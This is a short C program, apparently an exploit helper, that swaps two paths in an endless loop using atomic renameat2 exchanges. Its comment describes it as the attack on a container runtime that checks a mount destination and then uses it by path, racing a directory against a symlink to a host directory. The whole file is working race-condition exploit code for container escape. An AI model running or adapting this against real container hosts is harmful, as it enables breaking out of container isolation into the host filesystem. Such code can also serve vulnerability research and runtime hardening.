/* path-swap A B: exchange the two paths A and B (say a directory and a
 * symlink to a host directory) again and again with renameat2
 * (RENAME_EXCHANGE), as fast as the kernel allows, until killed.  Each
 * exchange is atomic, so at any moment A is one of the two: the attack on a
 * runtime that checks a mount destination and then uses it by path.  Exits
 * at once if an exchange fails for another reason than EBUSY. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
  if (argc != 3) {
    fprintf(stderr, "usage: path-swap A B\n");
    return 2;
  }
  for (;;) {
    /* EBUSY while one of them is a mount point (in the container's
     * namespace): keep going. */
    if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0 &&
        errno != EBUSY) {
      perror("path-swap: renameat2");
      return 1;
    }
  }
}
